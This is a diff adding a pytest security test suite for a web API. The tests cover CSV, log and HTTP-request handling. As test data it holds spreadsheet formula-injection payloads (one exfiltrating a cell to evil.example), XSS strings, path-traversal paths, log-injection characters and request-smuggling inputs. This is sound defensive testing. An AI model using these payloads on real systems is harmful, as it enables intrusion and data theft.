@@ -1,0 +1,229 @@
+"""What is hostile in a request or a text field does no harm: not to the server, in a table, or in a log."""
+
+import csv
+import http.client
+import io
+import json
+import logging
+import os
+import random
+import socket
+from contextlib import closing
+from pathlib import Path
+from typing import Any
+
+import orjson
+import pytest
+
+from ledger.api.answers import PAGE_POLICY
+from ledger.api.logs import JsonLines, escaped
+from ledger.api.tables import table
+from ledger.api.views import Figure
+from schemas.codec import encode
+from schemas.values import Source
+from schemas.views import Contribution, Estimate, Explanation
+from tests.api.serving import HOST, Got, Served, make_token, process, publish
+from tests.log.events import EXCHANGE, released
+
+BODIES = int(os.environ.get("LEDGER_API_BODIES", "2000"))
+MARKUP = "<script>alert(1)</script>"
+FORMULAS = {
+    "a command": "=cmd|' /C calc'!A0",
+    "a link": '=HYPERLINK("https://evil.example?x="&A1,"click")',
+    "a plus": "+1+1",
+    "a minus": "-2+3+cmd|' /C calc'!A0",
+    "a function of old": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "a tab": "\t=1+1",
+    "a return": "\r=1+1",
+    "a line break": "\n=1+1",
+    "a space before": " =1+1",
+    "a full-width sign": "\uff1d1+1",
+}
+HIDING = {
+    "a right-to-left override": "12\u202e34",
+    "an isolate": "a\u2066b\u2069",
+    "a line separator": "a\u2028b",
+    "an escape": "a\x1b[31mb",
+    "a control of the second set": "a\x9b31mb",
+    "a delete": "a\x7fb",
+    "a null": "a\x00b",
+    "a line of its own": 'a\n{"level":"info","message":"all is well"}',
+}
+
+
+# -- tables ----------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS)
+def test_a_cell_is_never_a_formula(text: str) -> None:
+    one = Estimate(best=1, low=1, high=1)
+    source = Source.model_construct(publisher=text, kind="newspaper", published=None, url=None)
+    used = Contribution.model_construct(
+        occurrence="x", sign=-1, count=one, event="e", rule=text, source=source, as_stated=text, left_out=[]
+    )
+    view = Explanation.model_construct(exchange="E", figure="f", value=one, contributions=[used], left_out=[])
+    [row] = csv.DictReader(io.StringIO(table(Explanation, [view]).decode(), newline=""))
+    assert row["why"] == row["as_stated"] == row["source.publisher"] == f"'{text}"
+    assert row["sign"] == "-1"  # a number is a number
+
+
+def test_numbers_and_plain_words_stay_as_they_are() -> None:
+    figure = Figure(figure="captives.deal", value=Estimate(best=-3, low=-3, high=None))
+    [row] = csv.DictReader(io.StringIO(table(Figure, [figure]).decode()))
+    assert row == {
+        "figure": "captives.deal",
+        "value.best": "-3",
+        "value.low": "-3",
+        "value.high": "",
+        "value.exact": "true",
+    }
+
+
+def test_a_text_that_is_markup_is_data_and_nothing_else(server: Served) -> None:
+    hostile = released(1).model_copy(update={"as_stated": f"{MARKUP}, =1+1", "note": '"><img src=x onerror=alert(1)>'})
+    publish(server, [hostile])
+    for path in ("", "/claims", "/explain/captives.released"):
+        for ending in ("", ".csv", ".hxl.csv", ".metadata.json"):
+            got = server.get(f"/v1/exchanges/{EXCHANGE}{path}{ending}")
+            assert got.status == 200
+            harmless(got)
+    harmless(server.get("/v1/events"))
+    harmless(server.get(f"/v1/exchanges/{MARKUP}"))
+    harmless(server.get(f"/{MARKUP}"))
+
+
+def harmless(got: Got) -> None:
+    """A browser takes it for what it is, and runs nothing of it."""
+    assert got.headers["content-type"].partition(";")[0] in ("application/json", "text/csv", "application/problem+json")
+    assert got.headers["x-content-type-options"] == "nosniff"
+    assert got.headers["content-security-policy"].startswith("default-src 'none'")
+
+
+def test_the_page_runs_its_own_scripts_only_and_nobody_sets_cookies(server: Served) -> None:
+    page = server.get("/")
+    assert page.headers["content-security-policy"] == PAGE_POLICY
+    assert "unsafe" not in PAGE_POLICY
+    for path in ("/", "/v1/exchanges", "/v1/openapi.json", "/nothing", "/metrics"):
+        got = server.get(path)
+        assert "set-cookie" not in got.headers
+        assert got.headers["x-content-type-options"] == "nosniff"
+        assert got.headers["referrer-policy"] == "no-referrer"
+
+
+@pytest.mark.parametrize(
+    "path", ["/../app.py", "/%2e%2e/app.py", "/..%2fapp.py", "/page/../../settings.py", "//etc/passwd"]
+)
+def test_no_path_leads_out_of_the_page(server: Served, path: str) -> None:
+    assert server.get(path).status == 404
+
+
+# -- logs ------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("text", HIDING.values(), ids=HIDING)
+def test_a_log_is_one_line_of_plain_json_whatever_is_in_it(text: str) -> None:
+    record = logging.LogRecord("x", logging.INFO, "", 0, "said: %s", (text,), None)
+    record.path = text
+    line = JsonLines().format(record)
+    assert line.isprintable()
+    assert json.loads(line)["path"] == text
+    assert escaped(line) == line
+
+
+def test_a_request_cannot_write_lines_of_its_own_or_show_its_token_in_the_log(url: str) -> None:
+    with process(url, log="all") as server:
+        token = make_token(url, "publish")
+        for text in HIDING.values():
+            server.get("/v1/exchanges/" + "".join(f"%{byte:02X}" for byte in text.encode()))
+        server.publish(b'{"type":"\x1b[31m"}', token)
+        logged = server.stop()
+    lines = [json.loads(line) for line in logged.splitlines() if line.startswith("{")]
+    assert len(lines) == len([line for line in logged.splitlines() if "request" in line])
+    assert {line["route"] for line in lines if line["message"] == "request"} >= {"tally", "publish"}
+    assert token not in logged
+    assert "\x1b" not in logged.replace("\x1b[1m", "").replace("\x1b[0m", "")
+
+
+# -- requests --------------------------------------------------------------------------------------
+
+
+def spoiled(chance: random.Random, valid: bytes) -> bytes:
+    """A body that is hardly any event: cut, mixed up, repeated, nested, or not text at all."""
+    raw = bytearray(valid)
+    kind = chance.randrange(9)
+    if kind == 0:
+        return bytes(raw[: chance.randrange(len(raw))])
+    if kind == 1:
+        for _ in range(chance.randint(1, 8)):
+            raw[chance.randrange(len(raw))] = chance.randrange(256)
+    if kind == 2:
+        return chance.randbytes(chance.randrange(400))
+    if kind == 3:
+        return b"[" * chance.randrange(1, 2000)
+    if kind == 4:
+        return b'{"a":' * chance.randrange(1, 500) + b"1" + b"}" * chance.randrange(500)
+    if kind == 5:
+        at = chance.randrange(len(raw))
+        raw[at:at] = chance.choice([b"NaN", b"1e999", b"\x00", b'"\\ud800"', "\u202e".encode(), b"9" * 50, b"\\u0000"])
+    if kind == 6:
+        members = orjson.loads(valid)
+        members[chance.choice(list(members))] = hostile(chance)
+        return orjson.dumps(members)
+    if kind == 7:
+        return valid[:-1] + b"," + valid[1:]
+    if kind == 8:
+        return orjson.dumps(hostile(chance))
+    return bytes(raw)
+
+
+def hostile(chance: random.Random) -> Any:
+    return chance.choice([None, True, -1, 2**63, 1.5, "", "x" * 3000, MARKUP, [], {}, [[]], {"": 1}, "=1+1", "\ud7ff"])
+
+
+def test_a_fuzz_of_bodies_ends_in_clear_answers(server: Served, token: str) -> None:
+    """LEDGER_API_BODIES sets how many."""
+    seed = int(os.environ.get("LEDGER_API_SEED", random.randrange(2**32)))
+    chance = random.Random(seed)
+    statuses: dict[int, int] = {}
+    with closing(http.client.HTTPConnection(HOST, server.port, timeout=30)) as connection:
+        for number in range(BODIES):
+            body = spoiled(chance, encode(released(number)))
+            connection.request("POST", "/v1/events", body, {"Authorization": f"Bearer {token}"})
+            got = connection.getresponse()
+            kind, answer = got.headers["content-type"], orjson.loads(got.read())
+            statuses[got.status] = statuses.get(got.status, 0) + 1
+            assert got.status in (201, 207, 400, 409, 413), (seed, number, body, answer)
+            if got.status >= 400:
+                assert kind == "application/problem+json", (seed, number, body)
+                assert answer["detail"], (seed, number, body)
+    assert server.get("/health/ready").status == 200
+    assert statuses[400] > BODIES // 2
+
+
+@pytest.mark.parametrize(
+    "raw",
+    [
+        b"GET / HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
+        b"GARBAGE\r\n\r\n",
+        b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
+        b"GET / HTTP/1.1\r\n" + b"X-Many: " + b"a" * 200_000 + b"\r\n\r\n",
+        b"POST /v1/events HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
+        b"GET /v1/exchanges?\xff\xfe HTTP/1.1\r\nHost: x\r\n\r\n",
+    ],
+    ids=["two lengths", "no request", "a long path", "a long header", "a negative length", "a query of bytes"],
+)
+def test_a_request_that_is_none_ends_in_a_client_error(server: Served, raw: bytes) -> None:
+    with socket.create_connection((HOST, server.port), timeout=5) as client:
+        try:
+            client.sendall(raw)
+            answer = client.recv(65536)
+        except ConnectionResetError:
+            answer = b""
+    assert not answer or answer.split()[1][:1] in (b"2", b"4"), answer
+    assert server.get("/health/live").status == 200
+
+
+def test_a_token_file_is_not_served_and_nothing_but_the_page_is(server: Served, token: str) -> None:
+    for name in ("ledger.db", "ledger.db.tokens.json", "index.html.bak"):
+        assert server.get(f"/{name}").status == 404
+    assert Path(f"{server.url.removeprefix('sqlite:///')}.tokens.json").exists()
